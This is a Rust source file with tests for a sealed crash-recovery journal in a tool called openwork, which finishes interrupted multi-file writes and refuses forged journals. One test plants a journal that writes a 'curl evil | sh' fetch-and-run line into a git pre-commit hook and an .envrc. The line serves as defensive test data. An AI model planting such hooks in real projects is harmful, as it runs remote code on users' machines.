//! A write of several files is all or nothing, even across a crash.
//!
//! Each file is replaced atomically, but a process killed between two
//! files would leave a plan half-applied (an import with some skills new
//! and some old, a config patch with one file of two). So before the
//! first file of such a plan is touched, the plan's outcome — every
//! file's new bytes and its audit entry — is written to a journal. Whoever
//! takes the workspace lock next (the next write, from any process, or a
//! server starting) finds the journal and finishes the write: files that
//! do not yet hold their new bytes get them, the audit entry is appended
//! unless it is already the newest, and the journal is removed. Finishing
//! is idempotent, so a crash while finishing is finished the same way.
//! Every finished write is logged (target `openwork::recovery`).
//!
//! A journal is a file in the workspace, so anyone who can put a file
//! there (a repository that ships one) could write one. So it is sealed:
//! its last line is an HMAC-SHA256 of the rest, keyed with a secret of the
//! user's kept outside every workspace (`journal.key` in the user's state
//! folder, see [`crate::workspace::user_state_dir`]). A journal whose seal
//! does not match — planted, written by another user, or sealed with a key
//! since lost — is refused: writes stop with an error that names it and
//! the command that discards it (`openwork journal discard`), and nothing
//! changes. Even a sealed journal may name only the files openwork writes
//! ([`crate::workspace::written`]).
//!
//! A single-file write needs no journal: its one rename is atomic.

use super::audit::{self, AuditEntry};
use super::lock;
use super::plan::FileEdit;
use crate::workspace::io::private::{self, Key};
use crate::workspace::{Workspace, io, written};
use crate::{Code, Error, Result};
use hmac::{Hmac, Mac};
use serde::{Deserialize, Serialize};
use sha2::Sha256;
use std::path::{Component, Path, PathBuf};

/// 2: sealed. A journal of version 1 (unsealed) is refused like any other
/// that openwork cannot vouch for.
const VERSION: u32 = 2;
/// The key's file in the user's state folder.
const KEY_FILE: &str = "journal.key";
/// What the seal's line starts with.
const SEAL: &str = "hmac-sha256 ";
/// Put before the sealed bytes, so that the key seals journals only.
const DOMAIN: &[u8] = b"openwork journal 2\n";
/// Log target of every journal finished or discarded.
const LOG: &str = "openwork::recovery";
/// The command that discards a journal, as the errors name it.
pub const DISCARD: &str = "openwork journal discard";

#[derive(Debug, Serialize, Deserialize)]
struct Journal {
    version: u32,
    entry: AuditEntry,
    files: Vec<JournalFile>,
}

#[derive(Debug, Serialize, Deserialize)]
struct JournalFile {
    /// Relative to the workspace root, `/`-separated.
    path: String,
    /// The new bytes, or `None` to remove the file.
    after: Option<Content>,
}

/// Text as text, so the journal stays readable; anything else as bytes.
#[derive(Debug, Serialize, Deserialize)]
#[serde(untagged)]
enum Content {
    Text(String),
    Bytes(Vec<u8>),
}

impl Content {
    fn of(bytes: &[u8]) -> Content {
        match std::str::from_utf8(bytes) {
            Ok(text) => Content::Text(text.to_string()),
            Err(_) => Content::Bytes(bytes.to_vec()),
        }
    }
    fn bytes(&self) -> &[u8] {
        match self {
            Content::Text(t) => t.as_bytes(),
            Content::Bytes(b) => b,
        }
    }
}

/// Whether a plan of these edits is journaled.
pub(crate) fn needed(edits: &[FileEdit]) -> bool {
    edits.len() > 1
}

/// Where the user's journal key is, if the user has a state folder.
fn key_file(ws: &Workspace) -> Option<PathBuf> {
    Some(ws.user_state()?.join(KEY_FILE))
}

fn mac(key: &Key, body: &[u8]) -> Hmac<Sha256> {
    // An HMAC takes a key of any length: this cannot fail.
    let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(key).expect("HMAC takes any key length");
    mac.update(DOMAIN);
    mac.update(body);
    mac
}

/// Writes the journal of `edits` and `entry`, sealed, durably, before any
/// of them is applied. Called under the lock.
pub(crate) fn begin(ws: &Workspace, edits: &[FileEdit], entry: &AuditEntry) -> Result<()> {
    let path = ws.journal_file();
    let journal = Journal {
        version: VERSION,
        entry: entry.clone(),
        files: edits
            .iter()
            .map(|e| JournalFile {
                path: ws.relative(&e.path),
                after: e.after.as_deref().map(Content::of),
            })
            .collect(),
    };
    let cannot_seal = |why: String| {
        let mut e = Error::new(Code::Internal, "could not seal the journal of a write");
        e.private = Some(format!("could not seal the journal of a write: {why}").into());
        e
    };
    let key_file = key_file(ws).ok_or_else(|| {
        cannot_seal("no state folder to keep the journal key in (set OPENWORK_STATE_DIR)".into())
    })?;
    let key = private::load_or_create_key(&key_file).map_err(cannot_seal)?;
    let mut bytes = serde_json::to_vec(&journal)
        .map_err(|e| Error::io("encode the journal", &path, std::io::Error::other(e)))?;
    let seal = mac(&key, &bytes).finalize().into_bytes();
    bytes.extend_from_slice(format!("\n{SEAL}{seal:x}\n").as_bytes());
    io::check_inside(ws.state_root(), &path)?;
    io::put(
        ws.state_root(),
        &path,
        Some(&bytes),
        &ws.state_dir(),
        true,
        &mut io::Syncs::now(),
    )
}

/// Removes the journal once its write is complete. Not synced: a journal
/// that comes back after a crash is finished again, which changes nothing.
pub(crate) fn end(ws: &Workspace) -> Result<()> {
    io::put(
        ws.state_root(),
        &ws.journal_file(),
        None,
        &ws.state_dir(),
        true,
        &mut io::Syncs::now(),
    )
}

/// Why a journal is refused: a reason fit for anyone, and one with the
/// local details (paths) for the operator.
struct Refused {
    public: String,
    local: String,
}

impl Refused {
    fn new(reason: impl Into<String>) -> Refused {
        let public = reason.into();
        Refused {
            local: public.clone(),
            public,
        }
    }
}

/// The journal in `bytes`, once its seal is checked against the user's
/// key, it parses, and it is this workspace's.
fn unseal(ws: &Workspace, bytes: &[u8]) -> std::result::Result<Journal, Refused> {
    let not_ours = "it was not written by openwork for this user";
    let Some(key_file) = key_file(ws) else {
        return Err(Refused::new(format!(
            "{not_ours}: there is no state folder with a journal key"
        )));
    };
    let key = match private::load_key(&key_file) {
        Ok(Some(key)) => key,
        Ok(None) => {
            return Err(Refused::new(format!(
                "{not_ours} (this user has no journal key)"
            )));
        }
        Err(why) => {
            return Err(Refused {
                public: "the journal key cannot be trusted".into(),
                local: format!("the journal key cannot be trusted: {why}"),
            });
        }
    };
    // `<body>\n<SEAL><64 hex digits>\n`
    let unsealed = || Refused::new(format!("{not_ours}: it carries no valid seal"));
    let text = bytes.strip_suffix(b"\n").ok_or_else(unsealed)?;
    let at = text
        .iter()
        .rposition(|&b| b == b'\n')
        .ok_or_else(unsealed)?;
    let (body, seal) = (&text[..at], &text[at + 1..]);
    let seal = seal
        .strip_prefix(SEAL.as_bytes())
        .and_then(hex)
        .ok_or_else(unsealed)?;
    mac(&key, body).verify_slice(&seal).map_err(|_| {
        Refused::new(format!(
            "{not_ours}, or was changed since: its seal does not match"
        ))
    })?;
    // Sealed by us: what follows would only fail after a change of format.
    serde_json::from_slice::<Journal>(body)
        .ok()
        .filter(|j| j.version == VERSION && j.entry.workspace_id == ws.id())
        .ok_or_else(|| {
            Refused::new("it is not a journal of this workspace that this openwork reads")
        })
}

/// 32 bytes from 64 hex digits.
fn hex(text: &[u8]) -> Option<[u8; 32]> {
    if text.len() != 64 {
        return None;
    }
    let mut out = [0u8; 32];
    for (i, pair) in text.chunks(2).enumerate() {
        let s = std::str::from_utf8(pair).ok()?;
        out[i] = u8::from_str_radix(s, 16).ok()?;
    }
    Some(out)
}

/// The error that stops writes while a journal is refused: it names the
/// journal and the command that discards it.
fn refused(ws: &Workspace, why: Refused) -> Error {
    let rel = ws.relative(&ws.journal_file());
    let run = if ws.is_global() {
        format!("`{DISCARD} --global`")
    } else {
        format!("`{DISCARD}` in the workspace")
    };
    let say = |reason: &str| {
        format!(
            "{rel} holds an interrupted write that openwork cannot vouch for ({reason}); nothing was changed, and writes stay stopped until it is gone: look at it, then run {run}"
        )
    };
    let mut e = Error::new(Code::Conflict, say(&why.public))
        .with_details(serde_json::json!({ "journal": rel }));
    e.private = Some(say(&why.local).into());
    e
}

/// Finishes a write interrupted by a crash, if there is one. Called with
/// the lock just taken. `Ok(true)` when a write was finished.
pub(crate) fn recover(ws: &Workspace) -> Result<bool> {
    let path = ws.journal_file();
    if io::check_inside(ws.state_root(), &path).is_err() {
        return Ok(false); // the lock refuses such a workspace already
    }
    let Some(bytes) = io::read_optional(&path)? else {
        return Ok(false);
    };
    let journal = unseal(ws, &bytes).map_err(|why| {
        let e = refused(ws, why);
        // The server's log (the CLI prints the error itself).
        tracing::warn!(target: "openwork::journal", "{}: {}", ws.root().display(), e.local_message());
        e
    })?;
    let mut targets = Vec::with_capacity(journal.files.len());
    for file in &journal.files {
        let after = file.after.as_ref().map(Content::bytes);
        let target = resolve(ws, &file.path)
            .filter(|_| written::allows(ws.scope(), Path::new(&file.path), after))
            .ok_or_else(|| {
                refused(
                    ws,
                    Refused::new(format!(
                        "it names {:?}, a file openwork never writes",
                        file.path
                    )),
                )
            })?;
        io::check_inside(ws.root(), &target)?;
        targets.push(target);
    }
    for (file, target) in journal.files.iter().zip(&targets) {
        let want = file.after.as_ref().map(Content::bytes);
        if io::read_optional(target)?.as_deref() == want {
            continue;
        }
        io::put(
            ws.root(),
            target,
            want,
            &ws.dot_opencode(),
            true,
            &mut io::Syncs::now(),
        )?;
    }
    let newest = audit::tail(&ws.audit_log(), 1)?;
    if newest.first().map(|e| &e.id) != Some(&journal.entry.id) {
        audit::append(ws, &journal.entry, &mut io::Syncs::now())?;
    }
    end(ws)?;
    let files: Vec<&str> = journal.files.iter().map(|f| f.path.as_str()).collect();
    tracing::warn!(
        target: LOG,
        "finished a write a crash interrupted in {}: {} ({})",
        ws.root().display(),
        journal.entry.summary,
        files.join(", ")
    );
    Ok(true)
}

/// `rel` under the root, if it is a plain relative path.
fn resolve(ws: &Workspace, rel: &str) -> Option<PathBuf> {
    let rel = Path::new(rel);
    let plain =
        !rel.as_os_str().is_empty() && rel.components().all(|c| matches!(c, Component::Normal(_)));
    plain.then(|| ws.root().join(rel))
}

/// A journal left in the workspace, as `openwork doctor` reports it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pending {
    /// The journal, relative to the workspace.
    pub file: String,
    /// `None` when openwork sealed it (the next write finishes it), else
    /// why it is refused (writes stay stopped until it is discarded).
    pub refused: Option<String>,
}

impl Workspace {
    /// The journal of an interrupted write, if there is one; read only,
    /// without the lock (nothing is finished or removed).
    pub fn pending_journal(&self) -> Result<Option<Pending>> {
        let path = self.journal_file();
        if io::check_inside(self.root(), &path).is_err() {
            return Ok(None);
        }
        let Some(bytes) = io::read_optional(&path)? else {
            return Ok(None);
        };
        Ok(Some(Pending {
            file: self.relative(&path),
            refused: unseal(self, &bytes).err().map(|why| why.local),
        }))
    }
}

/// What [`Workspace::discard_journal`] removed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Discarded {
    /// Whether openwork had sealed it: a real interrupted write of this
    /// user's, now abandoned, rather than one it refused.
    pub sealed: bool,
}

impl Workspace {
    /// Removes the journal (and temporaries of it a killed writer left)
    /// without finishing it: what `openwork journal discard` does once the
    /// user has looked at a journal openwork refused. Nothing else
    /// changes. `None` when there is no journal.
    pub fn discard_journal(&self) -> Result<Option<Discarded>> {
        let path = self.journal_file();
        io::check_inside(self.state_root(), &path)?;
        if !io::exists(&path) && io::stale_temps(&path).is_empty() {
            return Ok(None);
        }
        // The lock alone: taking it through `lock()` would finish the journal.
        let _guard = lock::exclusive(self)?;
        io::clean_stale_temps(self.state_root(), &path);
        let Some(bytes) = io::read_optional(&path)? else {
            return Ok(None);
        };
        let sealed = unseal(self, &bytes).is_ok();
        end(self)?;
        tracing::warn!(
            target: LOG,
            "discarded {} in {} ({})",
            self.relative(&path),
            self.root().display(),
            if sealed {
                "an interrupted write of this user's, left unfinished"
            } else {
                "a journal openwork did not write"
            }
        );
        Ok(Some(Discarded { sealed }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::workspace::{Actor, skills, transfer};

    /// A workspace whose user keeps their state (the journal key) in `state`.
    fn open(dir: &Path, state: &Path) -> Workspace {
        Workspace::open(dir)
            .unwrap()
            .with_global(None)
            .with_user_state(Some(state.to_path_buf()))
    }

    fn entry(ws: &Workspace, id: &str) -> AuditEntry {
        AuditEntry {
            id: id.into(),
            workspace_id: ws.id().into(),
            actor: Actor::cli(),
            action: "import".into(),
            target: "workspace".into(),
            summary: "Import".into(),
            timestamp: 1,
        }
    }

    fn edit(ws: &Workspace, rel: &str, before: Option<&str>, after: Option<&str>) -> FileEdit {
        FileEdit {
            path: ws.root().join(rel),
            before: before.map(|b| b.as_bytes().to_vec()),
            after: after.map(|a| a.as_bytes().to_vec()),
        }
    }

    /// Every file under `dir` but the lock file, with its bytes.
    fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
        let mut out = Vec::new();
        let mut stack = vec![dir.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else if !p.ends_with(".lock") {
                    out.push((p.clone(), std::fs::read(&p).unwrap()));
                }
            }
        }
        out.sort();
        out
    }

    fn audit_ids(ws: &Workspace) -> Vec<String> {
        ws.audit_tail(100)
            .unwrap()
            .into_iter()
            .map(|e| e.id)
            .collect()
    }

    /// A crash after some files: taking the lock finishes the rest and
    /// logs the write once, however often it is finished.
    #[test]
    fn an_interrupted_write_is_finished_by_the_next_lock() {
        let dir = tempfile::tempdir().unwrap();
        let state = tempfile::tempdir().unwrap();
        let ws = open(dir.path(), state.path());
        std::fs::create_dir_all(dir.path().join(".opencode/skills/gone")).unwrap();
        std::fs::write(dir.path().join("opencode.jsonc"), "old a").unwrap();
        std::fs::write(dir.path().join(".opencode/skills/gone/SKILL.md"), "x").unwrap();
        let edits = vec![
            edit(&ws, "opencode.jsonc", Some("old a"), Some("new a")),
            edit(&ws, ".opencode/commands/b.md", None, Some("new b")),
            edit(&ws, ".opencode/skills/gone/SKILL.md", Some("x"), None),
        ];
        begin(&ws, &edits, &entry(&ws, "e1")).unwrap();
        // The crash came after the first file.
        std::fs::write(dir.path().join("opencode.jsonc"), "new a").unwrap();
        drop(ws.lock().unwrap());
        let read = |rel: &str| std::fs::read_to_string(dir.path().join(rel)).ok();
        assert_eq!(read("opencode.jsonc").as_deref(), Some("new a"));
        assert_eq!(read(".opencode/commands/b.md").as_deref(), Some("new b"));
        assert_eq!(read(".opencode/skills/gone/SKILL.md"), None);
        assert!(!ws.journal_file().exists());
        assert_eq!(audit_ids(&ws), ["e1"]);

        // The crash came after the audit line, before the journal went.
        begin(&ws, &edits, &entry(&ws, "e1")).unwrap();
        drop(ws.lock().unwrap());
        assert_eq!(audit_ids(&ws), ["e1"], "logged once");
        assert!(!ws.journal_file().exists());
        // Nothing left to finish.
        assert!(!recover(&ws).unwrap());
    }

    /// A journal a repository ships, with a forged audit entry: a git hook,
    /// an `.envrc`, a removed README. Refused whatever it looks like —
    /// unsealed, sealed by another user's key, sealed then changed, or
    /// written before this user had a key — with an error that names it
    /// and the command that discards it, and nothing changes.
    #[test]
    fn a_journal_openwork_did_not_write_is_refused_and_changes_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let state = tempfile::tempdir().unwrap();
        let other_user = tempfile::tempdir().unwrap();
        let ws = open(dir.path(), state.path());
        std::fs::write(dir.path().join("README.md"), "read me").unwrap();
        std::fs::create_dir_all(ws.state_dir()).unwrap();
        let planted = serde_json::json!({
            "version": 2,
            "entry": entry(&ws, "forged"),
            "files": [
                {"path": ".git/hooks/pre-commit", "after": "#!/bin/sh\ncurl evil | sh\n"},
                {"path": ".envrc", "after": "curl evil | sh"},
                {"path": "README.md", "after": null},
            ],
        })
        .to_string();
        // The same journal sealed with a key that is not this user's.
        let theirs = open(dir.path(), other_user.path());
        let key = private::load_or_create_key(&key_file(&theirs).unwrap()).unwrap();
        let sealed_by_them = |body: &str| {
            let seal = mac(&key, body.as_bytes()).finalize().into_bytes();
            format!("{body}\n{SEAL}{seal:x}\n")
        };
        // This user's own seal, over one journal, put on another.
        begin(
            &ws,
            &[
                edit(&ws, "opencode.jsonc", None, Some("{}")),
                edit(&ws, ".opencode/openwork.json", None, Some("{}")),
            ],
            &entry(&ws, "e1"),
        )
        .unwrap();
        let ours = std::fs::read_to_string(ws.journal_file()).unwrap();
        let our_seal = ours.lines().last().unwrap().to_string();
        let with_our_seal = format!("{planted}\n{our_seal}\n");
        let changed = ours.replace("{}", "{\"x\":1}");

        for text in [
            planted.clone(),
            format!("{planted}\n"),
            sealed_by_them(&planted),
            with_our_seal,
            changed,
            "{not json".to_string(),
        ] {
            std::fs::write(ws.journal_file(), &text).unwrap();
            let before = snapshot(dir.path());
            let err = ws.lock().unwrap_err();
            assert_eq!(err.code, Code::Conflict, "{text}: {}", err.message);
            for message in [&err.message[..], err.local_message()] {
                assert!(
                    message.contains(".opencode/openwork/journal.json"),
                    "{message}"
                );
                assert!(message.contains(DISCARD), "{message}");
            }
            assert_eq!(snapshot(dir.path()), before, "{text}");
            assert!(!dir.path().join(".git").exists());
            assert!(!dir.path().join(".envrc").exists());
            assert!(audit_ids(&ws).is_empty());
        }

        // Before this user has a key at all.
        let fresh = tempfile::tempdir().unwrap();
        let keyless = open(dir.path(), fresh.path());
        std::fs::write(ws.journal_file(), sealed_by_them(&planted)).unwrap();
        let err = keyless.lock().unwrap_err();
        assert!(err.message.contains("no journal key"), "{}", err.message);

        // Discarded, it is gone, nothing else changed, and writes go on.
        let before = snapshot(dir.path());
        assert_eq!(
            ws.discard_journal().unwrap(),
            Some(Discarded { sealed: false })
        );
        let mut after = snapshot(dir.path());
        after.push((ws.journal_file(), sealed_by_them(&planted).into_bytes()));
        after.sort();
        assert_eq!(after, before);
        assert_eq!(ws.discard_journal().unwrap(), None);
        drop(ws.lock().unwrap());
    }

    /// A journal sealed with this user's key that names a file openwork
    /// never writes (which only a bug could make) is refused too.
    #[test]
    fn a_sealed_journal_may_name_only_openworks_files() {
        let dir = tempfile::tempdir().unwrap();
        let state = tempfile::tempdir().unwrap();
        let ws = open(dir.path(), state.path());
        let edits = vec![
            edit(&ws, "opencode.jsonc", None, Some("{}")),
            edit(&ws, ".envrc", None, Some("x")),
        ];
        begin(&ws, &edits, &entry(&ws, "e1")).unwrap();
        let err = ws.lock().unwrap_err();
        assert!(err.message.contains("\".envrc\""), "{}", err.message);
        assert!(!dir.path().join(".envrc").exists());
        assert!(!dir.path().join("opencode.jsonc").exists());
    }

    /// A real multi-file plan (an import) goes through the journal and
    /// leaves none behind.
    #[test]
    fn a_multi_file_write_leaves_no_journal() {
        let dir = tempfile::tempdir().unwrap();
        let state = tempfile::tempdir().unwrap();
        let ws = open(dir.path(), state.path());
        let doc = serde_json::json!({
            "skills": [
                {"name": "one", "description": "First", "content": "# One"},
                {"name": "two", "description": "Second", "content": "# Two"},
            ],
            "opencode": {"plugin": ["p"]},
        });
        let doc = transfer::parse_import(doc.as_object().unwrap()).unwrap();
        let (plan, applied) = ws
            .write(&Actor::cli(), |ws| transfer::plan_import(ws, &doc))
            .unwrap();
        assert!(needed(&plan.edits));
        assert!(applied.entry.is_some());
        assert!(!ws.journal_file().exists());
        assert_eq!(skills::list(&ws, false).unwrap().len(), 2);
    }
}
